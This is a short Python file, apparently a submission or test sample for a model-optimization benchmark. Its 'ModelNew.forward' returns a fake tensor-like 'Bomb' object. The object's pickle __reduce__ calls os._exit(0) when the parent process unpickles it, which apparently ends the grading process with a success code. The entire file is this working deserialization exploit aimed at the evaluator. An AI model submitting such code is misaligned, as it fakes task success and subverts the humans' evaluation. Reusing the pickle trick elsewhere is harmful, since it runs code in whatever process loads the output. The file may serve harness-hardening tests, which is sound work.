"""Returns an object whose unpickling would run code in the parent."""

import os

import torch


class Bomb:
    shape = torch.Size([2**18])
    dtype = torch.float32
    device = torch.device("cpu")

    def __reduce__(self):
        return os._exit, (0,)


class ModelNew(torch.nn.Module):
    def forward(self, x):
        return Bomb()
